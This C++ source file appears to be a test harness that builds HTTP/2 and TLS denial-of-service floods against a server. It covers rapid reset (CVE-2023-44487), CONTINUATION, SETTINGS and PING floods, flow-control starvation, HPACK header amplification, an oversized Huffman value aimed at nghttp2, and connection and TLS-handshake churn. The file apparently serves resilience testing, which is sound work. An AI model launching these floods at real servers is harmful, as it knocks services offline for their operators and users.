// The floods, frame by frame.

#include "tests/attack/flood.h"

#include <openssl/ssl.h>

#include "server/base/check.h"
#include "tests/http2/frames.h"

namespace singleflight::attack {
namespace {

using namespace http2::testing;  // NOLINT: frames are the language of this file

constexpr bench::Nanos kMillisecond = 1000000;
constexpr int kStreams = 100;  // of connections that hold calls open
constexpr int kBatch = 64;     // frames a turn, so that system calls do not hold up the flood

int32_t StreamAt(uint64_t number) { return static_cast<int32_t>(2 * number + 1); }

std::string Repeated(const std::string& bytes, int times) {
  std::string out;
  out.reserve(bytes.size() * static_cast<size_t>(times));
  for (int i = 0; i < times; ++i) out += bytes;
  return out;
}

std::string Hello(std::initializer_list<std::pair<uint16_t, uint32_t>> settings = {}) {
  return std::string(kPreface) + Settings(settings).Encoded();
}

std::string Request(absl::string_view path, int32_t stream, uint8_t flags = 0) {
  const std::string block = HeaderEncoder::Literal(RequestFields(path));
  return Frame{kHeaders, static_cast<uint8_t>(kEndHeaders | flags), stream, block}.Encoded();
}

// A message as gRPC frames it, cut off behind its first `bytes`.
std::string Message(uint32_t claimed, size_t bytes) {
  return std::string(1, '\0') + FourBytes(claimed) + std::string(bytes, 'x');
}

std::string WholeCall(absl::string_view path, int32_t stream) {
  return Request(path, stream) + Data(stream, Message(8, 8), kEndStream).Encoded();
}

std::string OnEachStream(const std::function<std::string(int32_t)>& bytes) {
  std::string out;
  for (int i = 0; i < kStreams; ++i) out += bytes(StreamAt(i));
  return out;
}

// --- the floods --------------------------------------------------------------------------------

// CVE-2023-44487
std::string CallsAndCancels(uint64_t turn) {
  std::string out;
  for (int i = 0; i < kBatch; ++i) {
    const int32_t stream = StreamAt(turn * kBatch + i);
    out += Request(kRelayed, stream) + RstStream(stream, 8).Encoded();
  }
  return out;
}

// Calls whose replies the peer may not send.
std::string CallsWithoutWindow() {
  return Hello({{kInitialWindowSize, 0}}) +
         OnEachStream([](int32_t stream) { return WholeCall(kLarge, stream); });
}

std::string OneByteOfWindowEach(uint64_t) {
  return OnEachStream([](int32_t stream) { return WindowUpdate(stream, 1).Encoded(); });
}

std::string CallsThatHaveBegun() {
  return Hello() + OnEachStream([](int32_t stream) {
           return Request(kShared, stream) + Data(stream, Message(1000, 0)).Encoded();
         });
}

std::string OneByteOfRequestEach(uint64_t) {
  return OnEachStream([](int32_t stream) { return Data(stream, "x").Encoded(); });
}

// One large field is put into the table, and every byte after that says it again (RFC 7541 §6.1).
std::string OneFieldAThousandTimes(uint64_t turn) {
  constexpr size_t kFieldBytes = 3900, kTimes = 10000;
  std::string block = HeaderEncoder::Literal(RequestFields(kRelayed));
  if (turn == 0) {
    const std::string field = HeaderEncoder::Literal({{"x", std::string(kFieldBytes, 'x')}});
    block += "\x40" + field.substr(1);  // with indexing instead of without (§6.2.1, §6.2.2)
  }
  block += std::string(kTimes, '\xbe');  // index 62, the table's first
  return Frame{kHeaders, kEndHeaders | kEndStream, StreamAt(turn), block}.Encoded();
}

// One value that is longer than nghttp2 takes, in Huffman code ('x' is 1111001, which comes around
// every seven bytes).
std::string OneLongValue(uint64_t turn) {
  constexpr size_t kValueBytes = 140'000, kFrameBytes = 16'384;
  static const std::string* const block = [] {
    std::string code;
    while (code.size() < kValueBytes) code += "\xf3\xe7\xcf\x9f\x3e\x7c\xf9";
    std::string value = HeaderEncoder::Literal({{"x", code}});
    value[3] = '\xff';  // RFC 7541 §5.2
    return new std::string(HeaderEncoder::Literal(RequestFields(kRelayed)) + value);
  }();
  std::string out;
  for (size_t at = 0; at < block->size(); at += kFrameBytes) {
    const uint8_t ends = at + kFrameBytes >= block->size() ? kEndHeaders : 0;
    const uint8_t flags = at == 0 ? static_cast<uint8_t>(kEndStream) : ends;
    out += Frame{at == 0 ? kHeaders : kContinuation, flags, StreamAt(turn),
                 block->substr(at, kFrameBytes)}
               .Encoded();
  }
  return out;
}

std::string ClientHello() {
  static SSL_CTX* const context = SSL_CTX_new(TLS_client_method());
  SSL* const tls = SSL_new(context);
  static const unsigned char kH2[] = {2, 'h', '2'};
  SSL_set_alpn_protos(tls, kH2, sizeof kH2);
  SSL_set_bio(tls, BIO_new(BIO_s_mem()), BIO_new(BIO_s_mem()));
  SSL_connect(tls);
  char* bytes = nullptr;
  const long size = BIO_get_mem_data(SSL_get_wbio(tls), &bytes);
  SF_CHECK(size > 0);
  std::string hello(bytes, static_cast<size_t>(size));
  SSL_free(tls);
  return hello;
}

std::vector<Flood> MakeFloods() {
  using Reads = Flood::Reads;
  const auto nothing = [] { return std::string(); };
  const auto hello = [] { return Hello(); };
  const auto again_and_again = [](const Frame& frame) {
    return [bytes = Repeated(frame.Encoded(), kBatch)](uint64_t) { return bytes; };
  };
  const Frame head{kHeaders, 0, 1, HeaderEncoder::Literal({{":method", "POST"}})};
  const Frame more_head{kContinuation, 0, 1, HeaderEncoder::Literal({{"x", "y"}})};
  return {
      {"rapid-reset", 4, Reads::kEverything, hello, CallsAndCancels},
      {"continuation", 4, Reads::kEverything, [head] { return Hello() + head.Encoded(); },
       again_and_again(more_head)},
      {"settings", 4, Reads::kNothing, hello, again_and_again(Settings({{kMaxFrameSize, 65535}}))},
      {"ping", 4, Reads::kNothing, hello, again_and_again(Ping("flooding"))},
      {"zero-window", 4, Reads::kEverything, CallsWithoutWindow},
      {"window-updates", 4, Reads::kEverything, CallsWithoutWindow, OneByteOfWindowEach,
       kMillisecond},
      {"trickle", 4, Reads::kEverything, CallsThatHaveBegun, OneByteOfRequestEach,
       20 * kMillisecond},
      {"headers", 4, Reads::kEverything, hello, OneFieldAThousandTimes},
      {"long-values", 4, Reads::kEverything, hello, OneLongValue},
      {"empty-data", 4, Reads::kEverything, [] { return Hello() + Request(kShared, 1); },
       again_and_again(Data(1, ""))},
      {"connects", 500, Reads::kEverything, nothing},
      {"no-request", 500, Reads::kEverything, hello},
      {"tls-hello", 500, Reads::kEverything, ClientHello},
      {"tls-churn", 4, Reads::kUntilAnswered, ClientHello},
  };
}

}  // namespace

const std::vector<Flood>& Floods() {
  static const std::vector<Flood>* const floods = new std::vector<Flood>(MakeFloods());
  return *floods;
}

}  // namespace singleflight::attack
